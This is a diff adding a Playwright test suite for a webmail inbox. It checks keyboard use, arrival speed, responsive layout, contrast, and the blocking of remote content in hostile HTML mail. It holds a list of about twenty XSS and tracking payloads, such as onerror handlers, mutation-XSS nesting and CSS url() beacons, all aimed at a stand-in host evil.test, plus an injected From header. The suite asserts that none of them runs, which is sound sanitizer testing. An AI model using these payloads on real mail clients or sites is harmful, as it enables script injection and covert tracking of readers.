@@ -1,0 +1,312 @@
+/** The inbox as people use it: a real Chromium, by keyboard and mouse, on a phone, a tablet and a desk, with mail that means harm. */
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import type { BrowserContext, Page } from 'playwright-core';
+import { type InboxStage, inboxStage, mail } from '../protocols/inbox/stage.ts';
+import { tool } from './server.ts';
+
+const chromium = tool('chromium');
+const FLAGS =
+  '--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync';
+const MANY = 50_000;
+const PARSED = /^(?:Executing inline event handler|Setting the document's base URI)/;
+
+const PIXEL =
+  'iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==';
+
+/** A message of HTML, with an image inside it. */
+function html(content: string, fields: Readonly<Record<string, string>> = {}): string {
+  const body = [
+    '--b',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    content,
+    '--b',
+    'Content-Type: image/png',
+    'Content-ID: <logo@x>',
+    'Content-Transfer-Encoding: base64',
+    '',
+    PIXEL,
+    '--b--',
+    '',
+  ].join('\r\n');
+  return mail({ 'MIME-Version': '1.0', 'Content-Type': 'multipart/related; boundary=b', ...fields }, body);
+}
+
+/** trust.md HT-31, and the ways that a cleaner has been tricked before. */
+const HARM: readonly string[] = [
+  '<svg/onload=fetch("https://evil.test/1")>',
+  '<img src=x onerror=fetch("https://evil.test/2")>',
+  '<a href="javascript:fetch(\'https://evil.test/3\')">x</a>',
+  '<iframe src="data:text/html,<script>fetch(\'https://evil.test/4\')</script>"></iframe>',
+  '<meta http-equiv=refresh content="0;url=https://evil.test/5">',
+  '<base href="https://evil.test/6/"><img src="pixel.gif">',
+  '<form action="https://evil.test/7"><button autofocus>x</button></form>',
+  '<iframe srcdoc="<script>fetch(\'https://evil.test/8\')</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch(\'https://evil.test/9\')&gt;">',
+  '<svg></p><style><g title="</style><img src=https://evil.test/10 onerror=alert(1)>">',
+  '<svg><filter><feImage href="https://evil.test/11"/></filter><image href="https://evil.test/12"/><use href="https://evil.test/13#x"/></svg>',
+  '<style>@import "https://evil.test/14"; body{background:url(https://evil.test/15)} @font-face{font-family:f;src:url("https://evil.test/16")}</style>',
+  '<div style="background:url(//evil.test/17);list-style:url(\'https://evil.test/18\')">x</div>',
+  '<link rel=stylesheet href="https://evil.test/19"><link rel=prefetch href="https://evil.test/20">',
+  '<img srcset="https://evil.test/21 2x" src="https://evil.test/22"><picture><source srcset="https://evil.test/23"></picture>',
+  '<video poster="https://evil.test/24" src="https://evil.test/25" autoplay></video><audio src="https://evil.test/26" autoplay></audio>',
+  '<object data="https://evil.test/27"></object><embed src="https://evil.test/28">',
+  '<table background="https://evil.test/29"><td background="//evil.test/30">x</table>',
+  '<style>b{background:image-set("https://evil.test/31" 1x)} i{background:\\75rl(https://evil.test/32)} a{cursor:url(https://evil.test/33),auto}</style>',
+  '<script src="https://evil.test/34"></script><script>top.location="https://evil.test/35"</script>',
+  '<noscript><p title="</noscript><img src=x onerror=fetch(\'https://evil.test/36\')>"></noscript>',
+  '<style>:root{--x:url(https://evil.test/37)} p{background:var(--x)}</style><p style="--y:url(https://evil.test/38);background:var(--y)">x</p>',
+];
+
+describe('the inbox in Chromium', { skip: chromium === undefined && 'chromium is not installed' }, () => {
+  let stage: InboxStage;
+  let browser: BrowserContext;
+  let place: string;
+  let url: string;
+  /** Requests to anybody else, policies that were broken, errors of the script: none, ever. */
+  const wrong: string[] = [];
+
+  const open = async (width = 1440, path = ''): Promise<Page> => {
+    const page = await browser.newPage();
+    page.setDefaultTimeout(10_000);
+    await page.setViewportSize({ width, height: 900 });
+    page.on('console', (message) => {
+      // The cleaner parses harm in a document that runs nothing; Chromium tells that it would not have run it here either.
+      if (!PARSED.test(message.text())) wrong.push(`console: ${message.text()}`);
+    });
+    page.on('pageerror', (error) => wrong.push(`script: ${error.message}`));
+    page.on('request', (request) => {
+      if (!request.url().startsWith(url) && !/^(?:data|about):/.test(request.url()))
+        wrong.push(`request: ${request.url()}`);
+    });
+    await page.goto(url + path);
+    return page;
+  };
+  const subjects = (page: Page): Promise<string[]> => page.locator('.row .subject').allInnerTexts();
+  const row = (page: Page, subject: string) => page.getByRole('button', { name: new RegExp(subject) });
+
+  before(async () => {
+    place = mkdtempSync(join(tmpdir(), 'cs-inbox-'));
+    stage = await inboxStage({ messages: MANY + 1000 });
+    url = `http://127.0.0.1:${stage.door.port}/`;
+    const { chromium: engine } = await import('playwright-core');
+    browser = await engine.launchPersistentContext(join(place, 'profile'), {
+      ...(chromium === undefined ? {} : { executablePath: chromium }),
+      headless: true,
+      args: FLAGS.split(' '),
+      timezoneId: 'UTC',
+      locale: 'en-GB',
+    });
+  });
+  after(async () => {
+    await browser.close();
+    await stage[Symbol.asyncDispose]();
+    rmSync(place, { recursive: true });
+    assert.deepEqual(wrong, []);
+  });
+
+  test('nothing yet says what to do; mail shows the moment it arrives, within 100 ms', async () => {
+    const page = await open();
+    await page.getByText('No mail yet').waitFor();
+    await page.locator('.pulse.live').waitFor();
+    const times: number[] = [];
+    for (let at = 0; at < 10; at++) {
+      await page.evaluate(
+        `void (window.seen = new Promise((resolve) => new MutationObserver((_, observer) => {
+          if (!document.body.innerText.includes('arrival ${at};')) return;
+          observer.disconnect();
+          resolve(Date.now());
+        }).observe(document.body, { subtree: true, childList: true, characterData: true })))`,
+      );
+      const stored = Date.now();
+      await stage.deliver(mail({ Subject: `arrival ${at};` }));
+      times.push(((await page.evaluate('window.seen')) as number) - stored);
+    }
+    assert.equal((await subjects(page))[0], 'arrival 9;');
+    // Others share this machine: the best of ten is what the page can do.
+    assert.ok(Math.min(...times) < 100, `arrival to screen: ${times.join(' ')} ms`);
+    assert.match(await page.title(), /^\(10\) Inbox$/);
+    await page.close();
+  });
+
+  test('keyboard: next, previous, star, unread, select, delete, search, help', async () => {
+    const page = await open();
+    await row(page, 'arrival 9;').waitFor();
+    await page.keyboard.press('j');
+    await page.getByRole('heading', { name: 'arrival 9;' }).waitFor();
+    await page.keyboard.press('j');
+    await page.getByRole('heading', { name: 'arrival 8;' }).waitFor();
+    await page.keyboard.press('k');
+    await page.getByRole('heading', { name: 'arrival 9;' }).waitFor();
+    await page.keyboard.press('s');
+    await page.locator('.row.opened .star').waitFor();
+    await page.keyboard.press('u');
+    await page.locator('.row.opened.unseen').waitFor();
+    await page.keyboard.press('#');
+    await page.getByRole('heading', { name: 'arrival 8;' }).waitFor();
+    assert.equal((await subjects(page)).includes('arrival 9;'), false);
+    await page.keyboard.press('/');
+    await page.keyboard.type('subject:"arrival 3"');
+    await page.getByText('1 of 9 messages').waitFor();
+    assert.deepEqual(await subjects(page), ['arrival 3;']);
+    await page.keyboard.press('Escape');
+    await page.getByText('9 messages, ').waitFor();
+    await page.keyboard.press('?');
+    await page.getByRole('dialog', { name: 'Keys' }).waitFor();
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('*');
+    await page.getByText('9 messages selected').waitFor();
+    await page.keyboard.press('#');
+    await page.getByText('No mail yet').waitFor();
+    await page.close();
+  });
+
+  test('HT-31 mail that means harm runs nothing and asks for nothing', async () => {
+    for (const [at, harm] of HARM.entries()) {
+      await stage.deliver(
+        html(`<p id="safe">safe ${at}</p>${harm}`, {
+          Subject: `<b>harm ${at};</b>`,
+          From: `"<img src=x onerror=alert(1)>" <a@x.test>`,
+        }),
+      );
+    }
+    const page = await open();
+    await row(page, `harm ${HARM.length - 1};`).waitFor();
+    for (let at = HARM.length - 1; at >= 0; at--) {
+      await page.keyboard.press(at === HARM.length - 1 ? 'Home' : 'j');
+      await page.getByRole('heading', { name: `<b>harm ${at};</b>` }).waitFor();
+      const frame = page.frameLocator('iframe[title=Message]');
+      await frame.getByText(`safe ${at}`, { exact: true }).waitFor();
+    }
+    const sandbox = await page.locator('iframe[title=Message]').getAttribute('sandbox');
+    assert.equal(sandbox, 'allow-popups allow-popups-to-escape-sandbox');
+    assert.deepEqual(wrong, []);
+    await page.close();
+  });
+
+  test('cid images are shown; what is remote is counted, blocked, and asked for only when somebody wants it', async () => {
+    const asked: string[] = [];
+    await stage.deliver(
+      html('<img id=in src="cid:logo@x"><img src="https://pictures.test/a.png"><p>both</p>', { Subject: 'pictures' }),
+    );
+    const page = await open();
+    await browser.route('https://pictures.test/**', (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ contentType: 'image/png', body: Buffer.from(PIXEL, 'base64') });
+    });
+    await row(page, 'pictures').click();
+    const frame = page.frameLocator('iframe[title=Message]');
+    await frame.getByText('both').waitFor();
+    assert.equal(
+      await frame.locator('#in').evaluate((node) => (node as unknown as { naturalWidth: number }).naturalWidth),
+      5,
+    );
+    assert.deepEqual(asked, []);
+    await page.getByRole('button', { name: '1 remote item blocked. Show' }).click();
+    await page.getByRole('button', { name: 'Remote content is shown' }).waitFor();
+    await page.waitForResponse('https://pictures.test/a.png').catch(() => {});
+    assert.deepEqual(asked, ['https://pictures.test/a.png']);
+    const own = wrong.splice(0);
+    assert.deepEqual(own, ['request: https://pictures.test/a.png']);
+    await browser.unrouteAll();
+    await page.close();
+  });
+
+  test('tabs by arrow keys; the source is the message; a part is one click away', async () => {
+    const page = await open();
+    await row(page, 'pictures').click();
+    await page.getByRole('tab', { name: 'HTML' }).focus();
+    await page.keyboard.press('ArrowRight');
+    assert.equal(await page.getByRole('tab', { name: 'Headers' }).getAttribute('aria-selected'), 'true');
+    await page.getByRole('tabpanel').getByText('multipart/related').waitFor();
+    await page.keyboard.press('ArrowRight');
+    await page.getByRole('tabpanel').getByText('Content-ID: <logo@x>').waitFor();
+    await page.keyboard.press('ArrowRight');
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page
+        .getByRole('tabpanel')
+        .getByRole('link', { name: /image\/png/ })
+        .click(),
+    ]);
+    assert.equal(await download.failure(), null);
+    await page.close();
+  });
+
+  test('phone, tablet, desktop, light and dark: nothing wider than the screen, targets tall enough, text that can be read', async () => {
+    for (const width of [390, 820, 1440]) {
+      for (const colorScheme of ['light', 'dark'] as const) {
+        const page = await open(width);
+        await page.emulateMedia({ colorScheme });
+        await row(page, 'pictures').waitFor();
+        const look = async (where: string): Promise<void> => {
+          assert.ok(Number(await page.evaluate('document.documentElement.scrollWidth')) <= width, `${where} ${width}`);
+          const heights = (await page.evaluate(
+            "[...document.querySelectorAll('button, a, input')].filter((each) => each.offsetParent && !each.matches('.face')).map((each) => each.getBoundingClientRect().height)",
+          )) as number[];
+          assert.ok(Math.min(...heights) >= 40, `${where} ${width}: ${Math.min(...heights)}`);
+          assert.deepEqual(await faint(page), [], `${where} ${width} ${colorScheme}`);
+        };
+        await look('list');
+        await row(page, 'pictures').click();
+        await page.getByRole('tab', { name: 'HTML' }).waitFor();
+        await look('reader');
+        if (width === 390) {
+          await page.getByRole('button', { name: 'Back to the list' }).click();
+          await row(page, 'pictures').waitFor();
+        }
+        await page.close();
+      }
+    }
+  });
+
+  test(`${MANY} messages: few elements, the oldest one key away, arrivals as quick as ever`, async () => {
+    for (let at = 0; at < MANY; at++) await stage.deliver(mail({ Subject: `many ${at};` }));
+    const page = await open();
+    await row(page, `many ${MANY - 1};`).waitFor();
+    assert.ok((await page.locator('.row').count()) < 60);
+    await page.keyboard.press('End');
+    await row(page, 'harm 0;').waitFor();
+    await page.keyboard.press('Home');
+    await page.getByRole('heading', { name: `many ${MANY - 1};` }).waitFor();
+    await page.locator('.list').evaluate((node) => ((node as unknown as { scrollTop: number }).scrollTop = 2_000_000));
+    await row(page, `many ${MANY - Math.round(2_000_000 / 84) - 3};`).waitFor();
+    await page.locator('.list').evaluate((node) => ((node as unknown as { scrollTop: number }).scrollTop = 0));
+    await stage.deliver(mail({ Subject: 'after all;' }));
+    await row(page, 'after all;').waitFor();
+    await page.close();
+  });
+});
+
+/** Texts whose contrast to what is behind them is below 4.5 (WCAG 2.2, 1.4.3). */
+function faint(page: Page): Promise<string[]> {
+  return page.evaluate(`(() => {
+    const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
+    const channels = (color, under = [255, 255, 255]) => {
+      canvas.fillStyle = 'rgb(' + under.join() + ')';
+      canvas.fillRect(0, 0, 1, 1);
+      canvas.fillStyle = color;
+      canvas.fillRect(0, 0, 1, 1);
+      return [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
+    };
+    const light = (rgb) => rgb.map((c) => c / 255).map((c) => c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
+      .reduce((sum, c, at) => sum + c * [0.2126, 0.7152, 0.0722][at], 0);
+    const behind = (node) => {
+      const layers = [];
+      for (let at = node; at; at = at.parentElement) layers.unshift(getComputedStyle(at).backgroundColor);
+      return layers.reduce((under, color) => channels(color, under), [255, 255, 255]);
+    };
+    const texts = [...document.querySelectorAll('body *')].filter((node) => node.offsetParent && !node.closest('.hidden, svg, iframe') &&
+      [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim() !== ''));
+    return texts.flatMap((node) => {
+      const under = behind(node);
+      const [a, b] = [light(channels(getComputedStyle(node).color, under)), light(under)].sort((x, y) => y - x);
+      const ratio = (a + 0.05) / (b + 0.05);
+      return ratio < 4.5 ? [node.className + ' ' + node.textContent.slice(0, 30) + ': ' + ratio.toFixed(2)] : [];
+    });
+  })()`) as Promise<string[]>;
+}
